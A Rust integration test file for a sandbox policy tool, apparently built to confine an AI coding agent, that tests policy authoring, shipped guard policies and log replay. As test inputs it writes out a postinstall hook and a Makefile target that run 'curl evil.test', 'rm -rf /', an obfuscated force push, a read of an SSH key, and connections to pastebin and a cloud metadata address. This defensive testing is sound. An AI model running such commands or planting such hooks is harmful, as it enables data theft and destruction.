//! The steps of a new policy author in each language, the shipped policies by name, and comparisons over logs.

use std::fs;
use std::io::{BufRead as _, BufReader, Write as _};
use std::os::unix::fs::{DirBuilderExt as _, PermissionsExt as _};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::time::{Instant, SystemTime};

use anyhow::{Context as _, Result, ensure};
use portcullis_it::{Finished, Interface, Scene, Serve, Tools, User, portcullis};
use serde_json::{Value, json};

use crate::{same_answers, statements};

as_each_user!(shipped_policies_are_used_by_name, a_log_is_taken_again, what_builds_run_later_is_written_down);

const LOOSER: i32 = 1;
const READY_MADE_CASES: &str =
    "[given]\ncwd = '/srv/app'\n[[case]]\nname = 'a'\nread = ['/srv/app/a']\nexpect = 'allow'\n";
const READY_MADE_TESTS: &str = "[tests]\nfiles = ['cases.toml']";

/// The folder of a policy author, with the environment of the user who runs the tests, which has the toolchains.
struct Desk {
    folder: tempfile::TempDir,
    since: SystemTime,
    /// The directory that comes first in PATH.
    first: Option<PathBuf>,
}

impl Desk {
    fn new() -> Result<Self> {
        Ok(Self { folder: tempfile::tempdir()?, since: SystemTime::now(), first: None })
    }

    /// Returns an author with another Node.
    fn with_node(node: &Path) -> Result<Self> {
        let first = node.parent().map(Path::to_owned);
        Ok(Self { first, ..Self::new()? })
    }

    fn at(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// Copies what this author's verbs have compiled into the user's cache of the scene: compiling a large component
    /// again takes long.
    fn give_compiled_to(&self, scene: &Scene) -> Result<()> {
        let compiled = |home: &Path| home.join(".cache/portcullis/policies");
        let to = compiled(&scene.home());
        fs::DirBuilder::new().recursive(true).mode(0o700).create(&to)?;
        for entry in fs::read_dir(compiled(&home()?)).context("the cache of compiled policies")? {
            let entry = entry?;
            // A test that runs at the same time may replace a file.
            if entry.metadata().and_then(|file| file.modified()).is_ok_and(|at| at >= self.since) {
                fs::copy(entry.path(), to.join(entry.file_name()))?;
            }
        }
        Ok(())
    }

    fn output(&self, arguments: &[&str]) -> Result<Output> {
        self.command(arguments)?.output().context("starting `portcullis`")
    }

    fn command(&self, arguments: &[&str]) -> Result<Command> {
        let mut command = Command::new(portcullis(User::Caller)?);
        command.args(arguments).current_dir(self.folder.path()).env("HOME", home()?);
        // Where rustup has no wasm target, `cargo xtask setup` has built one for another compiler.
        if let Some((rustc, flags)) = Tools::find()?.wasm() {
            command.env("RUSTC", rustc).env("RUSTFLAGS", flags);
        }
        if let Some(first) = &self.first {
            let path = std::env::var_os("PATH").unwrap_or_default();
            let path = std::iter::once(first.clone()).chain(std::env::split_paths(&path));
            command.env("PATH", std::env::join_paths(path)?);
        }
        // Crates that a policy in Rust needs are built once, and not again in each run of the tests.
        command.env("CARGO_TARGET_DIR", concat!(env!("CARGO_TARGET_TMPDIR"), "/policies"));
        command.env_remove("RUSTUP_TOOLCHAIN");
        Ok(command)
    }

    /// Begins a policy whose component is built elsewhere; it allows `/srv/app/a` to be read.
    fn begin_ready_made(&self, name: &str, tests: &str) -> Result<()> {
        let manifest =
            "[policy]\nid = 'test:no-wasi'\nversion = '0.1.0'\ntitle = 'T'\n[contract]\nversion = '0.1'\n";
        let golden = Path::new(env!("CARGO_MANIFEST_DIR")).join("../golden/0.1.0/verdicts.wasm");
        fs::create_dir(self.at(name))?;
        fs::write(self.at(name).join("policy.toml"), format!("{manifest}{tests}"))?;
        fs::write(self.at(name).join("cases.toml"), READY_MADE_CASES)?;
        fs::copy(&golden, self.at(name).join("component.wasm"))?;
        Ok(())
    }

    fn done(&self, arguments: &[&str]) -> Result<String> {
        let output = self.output(arguments)?;
        let text = String::from_utf8_lossy(&output.stdout).into_owned();
        ensure!(output.status.success(), "{arguments:?}: {text}{}", String::from_utf8_lossy(&output.stderr));
        Ok(text)
    }
}

fn home() -> Result<PathBuf> {
    std::env::var_os("HOME").map(PathBuf::from).context("HOME is not set")
}

/// The author runs `new`, `build`, `test`, `lint` and `inspect`, and the policy is used.
fn path_of_a_newcomer(language: &str, desk: &Desk) -> Result<()> {
    let started = Instant::now();
    desk.done(&["policy", "new", "example", "--lang", language])?;
    let again = desk.output(&["policy", "new", "example", "--lang", language])?;
    ensure!(!again.status.success(), "what is there is not written over");
    let throws = throw_on_boom(language, desk)?;
    let built: Value = serde_json::from_str(&desk.done(&["policy", "build", "example", "--json"])?)?;
    let component = desk.at("example/build/example.wasm");
    ensure!(built.get("bytes").and_then(Value::as_u64) == Some(fs::metadata(&component)?.len()), "{built}");
    let tested: Value = serde_json::from_str(&desk.done(&["policy", "test", "example", "--json"])?)?;
    ensure!(tested.get("rulesSeen") == tested.get("rulesDeclared"), "{tested}");
    let taken =
        format!("{language}: from `new` to the first verdict in {:.1} s\n", started.elapsed().as_secs_f64());
    std::io::stdout().write_all(taken.as_bytes())?;

    // The component contains its cases and its manifest, so no other file is needed.
    let file = component.to_str().context("a path is text")?;
    let alone: Value = serde_json::from_str(&desk.done(&["policy", "test", file, "--json"])?)?;
    ensure!(alone.get("run") == tested.get("run"), "{alone}");
    let shown: Value = serde_json::from_str(&desk.done(&["policy", "inspect", file, "--json"])?)?;
    ensure!(shown.pointer("/pack/manifest/policy/id") == Some(&"local:example".into()), "{shown}");
    let imports = shown.get("imports").and_then(Value::as_array).context("imports are listed")?;
    // WASI is stubs, which give no access.
    let gives_nothing = |name: &Value| {
        name.as_str()
            .is_some_and(|name| name.starts_with("portcullis:policy/types@") || name.starts_with("wasi:"))
    };
    ensure!(imports.iter().all(gives_nothing), "{shown}");
    desk.done(&["policy", "lint", file])?;

    if throws {
        let crashed = desk.output(&["policy", "run", file, "exec", "npm boom"])?;
        let text = String::from_utf8_lossy(&crashed.stdout);
        ensure!(text.contains("so far") && text.contains("boom at once"), "{crashed:?}");
    }

    // A failing case is reported, for people and for build servers.
    let wrong = "[[case]]\nname = 'a < b'\ncommand = 'npm publish'\nexpect = 'allow'\n";
    fs::write(desk.at("wrong.toml"), wrong)?;
    let failed = desk.output(&["policy", "test", file, "--cases", "wrong.toml", "--junit", "report.xml"])?;
    ensure!(failed.status.code() == Some(1), "{failed:?}");
    let report = fs::read_to_string(desk.at("report.xml"))?;
    ensure!(report.contains("failures=\"1\"") && report.contains("a &lt; b"), "{report}");

    used(&component, desk)
}

/// Makes a policy in a language with exceptions throw one on `npm boom`, after it has printed a line. Returns false for
/// other languages.
fn throw_on_boom(language: &str, desk: &Desk) -> Result<bool> {
    let (file, before, thrown) = match language {
        "js" => (
            "example/policy.js",
            "    if (request.action.tag !== \"command\") return abstain();\n",
            "    if (runs(request, 'npm boom')) {\n      console.log('so far');\n      \
             throw new TypeError('boom at once');\n    }\n",
        ),
        "python" => (
            "example/policy.py",
            "    def command(self, command, request, context):\n",
            "        if runs(request, 'npm boom'):\n            print('so far')\n            \
             raise ValueError('boom at once')\n",
        ),
        _ => return Ok(false),
    };
    let text = fs::read_to_string(desk.at(file))?;
    ensure!(text.contains(before), "{text}");
    fs::write(desk.at(file), text.replace(before, &format!("{before}{thrown}")))?;
    Ok(true)
}

/// Copied into place and named in the settings, the policy applies to tools and commands.
fn used(component: &Path, desk: &Desk) -> Result<()> {
    let scene = Scene::new(User::Caller)?;
    desk.give_compiled_to(&scene)?;
    scene.write(&scene.project().join("LICENSE"), "mine\n")?;
    let sandbox = scene.home().join(".pi/agent/sandbox");
    fs::create_dir_all(sandbox.join("policies"))?;
    fs::copy(component, sandbox.join("policies/example.wasm"))?;
    use_policies(&scene, r#"{"use": "workspace"}, {"use": "policies/example.wasm"}"#)?;
    let tool = scene.portcullis(&["check", "--json", "write", "LICENSE"])?.ended_with(20)?;
    let answer: Value = serde_json::from_str(&tool.stdout)?;
    ensure!(answer.get("rule") == Some(&"files.keep".into()), "{answer}");
    scene.portcullis(&["check", "exec", "npm pub'lish'"])?.ended_with(20)?;
    scene.portcullis(&["check", "exec", "npm test"])?.ended_with(0)?;
    scene.portcullis(&["run", "--", "sh", "-c", "echo theirs > LICENSE"])?.ended_with(2)?;
    ensure!(
        fs::read_to_string(scene.project().join("LICENSE"))? == "mine\n",
        "the kernel holds the rule for commands"
    );
    Ok(())
}

/// The files of a policy that cannot run can still be inspected: one that needs an update, or one of unknown origin.
#[test]
fn what_cannot_be_run_is_shown() -> Result<()> {
    let desk = Desk::new()?;
    let guest = portcullis_it::guest("wrong-track", User::Caller)?;
    let guest = guest.to_str().context("a path is text")?;
    let shown = desk.output(&["policy", "inspect", guest])?;
    let text = String::from_utf8_lossy(&shown.stdout);
    let text = text.split_whitespace().collect::<Vec<_>>().join(" ");
    ensure!(shown.status.code() == Some(1) && text.contains("contract 9; this host speaks 0.1"), "{text}");
    ensure!(text.contains("portcullis:policy/lifecycle@9.0.0") && text.contains("sha256:"), "{text}");
    let told: Value = serde_json::from_slice(&desk.output(&["policy", "inspect", guest, "--json"])?.stdout)?;
    ensure!(told.get("description") == Some(&Value::Null), "{told}");
    ensure!(told.get("fault").is_some_and(|fault| fault.to_string().contains("contract 9")), "{told}");
    Ok(())
}

/// Each round ends with the findings of `lint`; an edit begins another.
#[test]
fn an_edit_is_built_and_tested_at_once() -> Result<()> {
    let desk = Desk::new()?;
    let missing = desk.command(&["policy", "watch", "one"])?.output()?;
    let said = String::from_utf8_lossy(&missing.stderr);
    ensure!(!missing.status.success() && said.contains("`one` is not a folder"), "{said}");
    desk.begin_ready_made("one", READY_MADE_TESTS)?;
    let mut watching = desk.command(&["policy", "watch", "one", "--json"])?.stdout(Stdio::piped()).spawn()?;
    let mut lines = BufReader::new(watching.stdout.take().context("a pipe")?).lines();
    let mut round = || -> Result<Vec<Value>> {
        let mut objects: Vec<Value> = Vec::new();
        while objects.last().is_none_or(|last| last.get("findings").is_none() && last.get("error").is_none())
        {
            objects.push(serde_json::from_str(&lines.next().context("another line")??)?);
        }
        Ok(objects)
    };
    let watched = (|| {
        let first = round()?;
        let has_failed =
            |round: &[Value]| round.iter().any(|object| object.to_string().contains("expected deny"));
        ensure!(first.iter().any(|object| object.get("digest").is_some()), "it is built: {first:?}");
        ensure!(first.iter().any(|object| object.get("run") == Some(&json!(1))), "it is tested: {first:?}");
        ensure!(!has_failed(&first), "{first:?}");
        fs::write(desk.at("one/cases.toml"), READY_MADE_CASES.replace("allow", "deny"))?;
        let second = round()?;
        ensure!(
            second.iter().all(|object| object.get("digest").is_none()),
            "cases need no build: {second:?}"
        );
        ensure!(has_failed(&second), "{second:?}");
        fs::write(desk.at("one/policy.toml"), "[policy]\n")?;
        let third = round()?;
        ensure!(third.iter().any(|object| object.to_string().contains("policy.toml")), "{third:?}");
        Ok(())
    })();
    watching.kill()?;
    watching.wait()?;
    watched
}

/// The component that was built last answers.
#[test]
fn requests_are_tried_one_a_line() -> Result<()> {
    let desk = Desk::new()?;
    desk.begin_ready_made("one", "")?;
    desk.done(&["policy", "build", "one"])?;
    let mut trying = desk
        .command(&["policy", "try", "one/build/no-wasi.wasm", "--json"])?
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()?;
    let mut input = trying.stdin.take().context("a pipe")?;
    let mut lines = BufReader::new(trying.stdout.take().context("a pipe")?).lines();
    let mut ask = |line: &str| -> Result<Value> {
        writeln!(input, "{line}")?;
        Ok(serde_json::from_str(&lines.next().context("an answer")??)?)
    };
    let first = ask("read one/cases.toml")?;
    ensure!(first.get("rule") == Some(&json!("workspace")), "{first}");
    let other = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies/guard/policy.wasm");
    fs::copy(other, desk.at("one/build/no-wasi.wasm"))?;
    let second = ask("no request\nexec rm -rf /")?;
    ensure!(second.get("rule") == Some(&json!("guard.command")), "{second}");
    drop(input);
    let ended = trying.wait_with_output()?;
    let told = String::from_utf8_lossy(&ended.stderr).into_owned();
    ensure!(ended.status.code() == Some(1) && told.contains("write `exec SCRIPT`"), "{ended:?}");
    Ok(())
}

/// Two policies get the same requests in turns, and are reported separately; one that gets no request is not measured.
#[test]
fn two_are_measured_in_turns() -> Result<()> {
    let desk = Desk::new()?;
    for (name, tests) in [("one", READY_MADE_TESTS), ("two", ""), ("bare", "")] {
        desk.begin_ready_made(name, tests)?;
        desk.done(&["policy", "build", name])?;
    }
    let told = desk.done(&["policy", "bench", "one", "two", "--rounds", "40", "--json"])?;
    let told: Value = serde_json::from_str(&told)?;
    let calls = |place: &str| told.pointer(&format!("/policies/{place}/microseconds/calls")).cloned();
    ensure!(calls("0") == Some(json!(40)) && calls("1") == Some(json!(40)), "{told}");
    ensure!(told.get("requests") == Some(&json!(1)), "{told}");
    ensure!(told.get("p50Ratio").and_then(Value::as_f64).is_some_and(|ratio| ratio > 0.0), "{told}");
    let shown = desk.done(&["policy", "bench", "one", "two", "--rounds", "40"])?;
    ensure!(shown.contains("p99") && shown.contains("the second takes"), "{shown}");
    ensure!(desk.output(&["policy", "bench", "two", "bare"])?.status.code() == Some(1), "nothing was asked");
    Ok(())
}

#[test]
fn rust() -> Result<()> {
    path_of_a_newcomer("rust", &Desk::new()?)
}

#[test]
fn javascript() -> Result<()> {
    // The oldest Node that is supported; the shipped policy is built with the usual one.
    path_of_a_newcomer("js", &Desk::with_node(&Tools::find()?.oldest_node()?)?)
}

#[test]
fn a_node_that_is_too_old_is_refused() -> Result<()> {
    let programs = tempfile::tempdir()?;
    let node = programs.path().join("node");
    fs::write(&node, "#!/bin/sh\necho v20.18.3\n")?;
    fs::set_permissions(&node, fs::Permissions::from_mode(0o755))?;
    let desk = Desk::with_node(&node)?;
    desk.done(&["policy", "new", "example", "--lang", "js"])?;
    let refused = desk.output(&["policy", "build", "example"])?;
    let told = String::from_utf8_lossy(&refused.stderr).into_owned();
    ensure!(refused.status.code() == Some(1), "{refused:?}");
    ensure!(told.contains("Node 20.19 or later") && told.contains("`v20.18.3`"), "{told}");
    ensure!(!told.contains("componentize") && !desk.at("example/node_modules").exists(), "{told}");
    Ok(())
}

#[test]
fn python() -> Result<()> {
    path_of_a_newcomer("python", &Desk::new()?)
}

#[test]
fn c() -> Result<()> {
    path_of_a_newcomer("c", &Desk::new()?)
}

#[test]
fn go() -> Result<()> {
    let desk = Desk::new()?;
    path_of_a_newcomer("go", &desk)?;
    matches_commands_in_go(&desk)
}

/// The command matching of the helpers passes the test cases that Rust's passes.
fn matches_commands_in_go(desk: &Desk) -> Result<()> {
    const FILES: [(&str, &str); 4] = [
        ("host/policy-tools/templates/go/commands.go", "commands.go"),
        ("host/policy-tools/templates/go/table.go", "table.go"),
        ("guest/sdk/tables/spellings.json", "spellings.json"),
        ("tests/it/tests/policies/spellings_test.go", "spellings_test.go"),
    ];
    let project = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..");
    let folder = desk.at("spellings");
    fs::create_dir(&folder)?;
    for (file, name) in FILES {
        fs::copy(project.join(file), folder.join(name)).with_context(|| format!("copying `{file}`"))?;
    }
    fs::write(folder.join("go.mod"), "module portcullis\n\ngo 1.25\n")?;
    // The compiler that building the example has fetched, or this machine's.
    let fetched = desk.at("example/build/go/go");
    let program = fetched.join("bin/go");
    let mut go = Command::new(if program.exists() { program.as_path() } else { Path::new("go") });
    if program.exists() {
        go.env("GOROOT", &fetched);
    }
    go.args(["test", "-v", "./..."]).current_dir(&folder).env("GOTOOLCHAIN", "local");
    let finished = Finished::run(&mut go)?.ended_with(0)?;
    ensure!(finished.stdout.contains("--- PASS: TestSpellings"), "{finished:#?}");
    Ok(())
}

#[test]
fn hosts_in_tiers_in_javascript() -> Result<()> {
    let (desk, component) = shipped_script("net-tiers")?;
    let scene = with_component(&desk, &component)?;
    use_policies(&scene, r#"{"use": "policies/script.wasm"}"#)?;
    // The policy is not trusted yet: it can deny but not allow.
    for (target, code) in [("registry.npmjs.org:443", 10), ("pastebin.com:443", 20)] {
        scene.portcullis(&["check", "connect", target])?.ended_with(code)?;
    }
    scene.trust(&component)?;
    for (target, code) in [
        ("registry.npmjs.org:443", 0),
        ("github.com:22", 0),
        ("example.com:443", 10),
        ("pastebin.com:443", 20),
        ("169.254.169.254:80", 20),
    ] {
        scene.portcullis(&["check", "connect", target])?.ended_with(code)?;
    }
    is_told_and_holds(&scene, &[json!({ "use": "workspace" }), json!({ "use": "policies/script.wasm" })])
}

/// Runs a command as well, to test that the policy takes effect, not only its answer.
#[test]
fn runs_without_a_user_in_python() -> Result<()> {
    let (desk, component) = shipped_script("unattended")?;
    let scene = with_component(&desk, &component)?;
    use_policies(&scene, r#"{"use": "workspace"}, {"use": "policies/script.wasm"}"#)?;
    let run = |script: &str| -> Result<Output> {
        let arguments = ["run", "--ask", "deny", "--", "bash", "-c", script];
        scene.portcullis_command(&arguments)?.output().context("starting `portcullis`")
    };
    let fine = run("echo fine > made")?;
    ensure!(fine.status.success() && scene.project().join("made").exists(), "control: {fine:?}");
    let refused = run("echo x > made-too; npm publish")?;
    ensure!(!refused.status.success() && !scene.project().join("made-too").exists(), "{refused:?}");
    let said = String::from_utf8_lossy(&refused.stderr);
    ensure!(said.contains("unattended.publish"), "{refused:?}");
    scene.trust(&component)?;
    is_told_and_holds(&scene, &[json!({ "use": "workspace" }), json!({ "use": "policies/script.wasm" })])
}

/// What is said under these policies is true, and commands and tools get the same answers.
fn is_told_and_holds(scene: &Scene, policies: &[Value]) -> Result<()> {
    let texts: Vec<String> = policies.iter().map(Value::to_string).collect();
    statements::hold_with(scene, &texts.join(", "))?;
    same_answers::are_the_same_with(scene, policies.to_vec())
}

/// The agent may write files that the user's own builds and tests run later; the log records these writes.
fn what_builds_run_later_is_written_down(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let mut host = Serve::greeted(&scene, &[], Interface::Absent)?;
    let path = scene.project().join("package.json");
    let content = r#"{"scripts": {"postinstall": "curl evil.test"}}"#;
    host.succeed("file/write", &json!({ "callId": "w", "path": path, "content": content }))?;
    host.run("printf 'all:\n\tcurl evil.test\n' > Makefile")?;
    host.close()?;
    let log = scene.portcullis(&["audit", "tail", "--json"])?.ended_with(0)?;
    for wanted in ["package.json", "postinstall", "> Makefile"] {
        ensure!(log.stdout.contains(wanted), "`{wanted}` is not in {}", log.stdout);
    }
    Ok(())
}

/// Builds, tests and lints a shipped policy that is a script, in a copy of its folder.
fn shipped_script(name: &str) -> Result<(Desk, PathBuf)> {
    let desk = Desk::new()?;
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies").join(name);
    let copied = Command::new("cp").arg("-r").arg(&source).arg(desk.at(name)).status()?;
    ensure!(copied.success(), "copying `{}`", source.display());
    desk.done(&["policy", "build", name])?;
    let tested: Value = serde_json::from_str(&desk.done(&["policy", "test", name, "--json"])?)?;
    ensure!(tested.get("rulesSeen") == tested.get("rulesDeclared"), "{tested}");
    desk.done(&["policy", "lint", name])?;
    let component = desk.at(name).join("build").join(name).with_extension("wasm");
    Ok((desk, component))
}

/// A scene with a component of this author among the user's policies.
fn with_component(desk: &Desk, component: &Path) -> Result<Scene> {
    let scene = Scene::new(User::Caller)?;
    desk.give_compiled_to(&scene)?;
    let policies = scene.home().join(".pi/agent/sandbox/policies");
    fs::create_dir_all(&policies)?;
    fs::copy(component, policies.join("script.wasm"))?;
    Ok(scene)
}

/// Writes the default settings with these policies instead.
fn use_policies(scene: &Scene, policies: &str) -> Result<()> {
    let settings = format!(
        r#"{{
            "network": {{ "allowedDomains": [], "deniedDomains": [] }},
            "filesystem": {{ "denyRead": ["/home"], "allowRead": ["."], "allowWrite": ["."], "denyWrite": [] }},
            "policies": [{policies}]
        }}"#
    );
    scene.write(&scene.home().join(".pi/agent/sandbox/default.json"), &settings)
}

fn shipped_policies_are_used_by_name(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    let use_policies = |policies: &str| use_policies(&scene, policies);
    use_policies(r#"{"use": "workspace"}, {"use": "git-guard"}, {"use": "secrets"}"#)?;
    for (script, code) in [
        ("git push --force", 20),
        ("echo $(g\\it pu''sh -f)", 20),
        ("git push origin topic", 10),
        ("git status", 0),
        ("echo AKIAIOSFODNN7EXAMPLE", 10),
    ] {
        scene.portcullis(&["check", "exec", script])?.ended_with(code)?;
    }
    // One word in the configuration changes the verdict, and an invalid word is reported.
    use_policies(r#"{"use": "workspace"}, {"use": "git-guard", "config": {"push": "deny"}}"#)?;
    scene.portcullis(&["check", "exec", "git push origin topic"])?.ended_with(20)?;
    use_policies(r#"{"use": "git-guard", "config": {"push": "perhaps"}}"#)?;
    let wrong = scene.portcullis(&["check", "exec", "ls"])?.ended_with(1)?;
    ensure!(wrong.stderr.contains("/push"), "{wrong:?}");
    use_policies(r#"{"use": "guard", "config": {"filesystem": {"denyWrite": []}}}"#)?;
    scene.write(&scene.home().join(".ssh/id"), "key\n")?;
    scene.portcullis(&["check", "read", "~/.ssh/id"])?.ended_with(20)?;
    let read =
        scene.portcullis(&["run", "--", "cat", &scene.home().join(".ssh/id").display().to_string()])?;
    ensure!(read.code() != 0 && !read.stdout.contains("key"), "{read:?}");
    use_policies(r#"{"use": "nobody"}"#)?;
    let unknown = scene.portcullis(&["check", "exec", "ls"])?.ended_with(1)?;
    ensure!(unknown.stderr.contains("`git-guard`"), "{unknown:?}");
    Ok(())
}

fn a_log_is_taken_again(user: User) -> Result<()> {
    let scene = Scene::new(user)?;
    scene.portcullis(&["run", "--", "sh", "-c", "true"])?.ended_with(0)?;
    scene.portcullis(&["run", "--", "sh", "-c", ": git push --force"])?.ended_with(0)?;
    let mut logs = scene.logs()?;
    logs.retain(|log| fs::read_to_string(log).is_ok_and(|text| text.contains("--force")));
    let [log] = logs.as_slice() else { anyhow::bail!("{logs:?}") };
    let log = log.to_str().context("a path is text")?;

    let same = scene.portcullis(&["policy", "replay", log])?.ended_with(0)?;
    ensure!(same.stdout.contains("answered otherwise: 0 of 1 request;"), "{same:?}");
    use_policies(&scene, r#"{"use": "workspace"}, {"use": "git-guard", "config": {"rewrite": "deny"}}"#)?;
    // `:` runs nothing; the command only mentions git.
    let same = scene.portcullis(&["policy", "replay", log, "--forbid-loosening"])?.ended_with(0)?;
    ensure!(same.stdout.contains("0 of 1"), "{same:?}");

    // Replacing a policy that denies by one that asks is a loosening.
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../policies");
    for name in ["git-guard", "workspace"] {
        fs::copy(folder.join(name).join("policy.wasm"), scene.project().join(format!("{name}.wasm")))?;
    }
    let arguments = ["policy", "diff", "git-guard.wasm", "workspace.wasm", "--log", log, "--json"];
    let different = scene.portcullis(&arguments)?.ended_with(0)?;
    let changes: Vec<Value> = different.stdout.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
    let is_command = |change: &&Value| {
        let name = change.get("name").and_then(Value::as_str).unwrap_or_default();
        !name.starts_with("standing rules")
            && !name.starts_with("random request")
            && !name.contains(".toml: ")
    };
    let change = changes.iter().find(is_command).context("the logged command")?;
    ensure!(change.pointer("/new/verdict") == Some(&"allow".into()), "{change}");
    ensure!(change.get("loosens") == Some(&true.into()), "{change}");
    let arguments =
        ["policy", "diff", "git-guard.wasm", "workspace.wasm", "--log", log, "--forbid-loosening"];
    scene.portcullis(&arguments)?.ended_with(LOOSER)?;
    let arguments =
        ["policy", "diff", "git-guard.wasm", "git-guard.wasm", "--log", log, "--forbid-loosening"];
    scene.portcullis(&arguments)?.ended_with(0)?;
    Ok(())
}
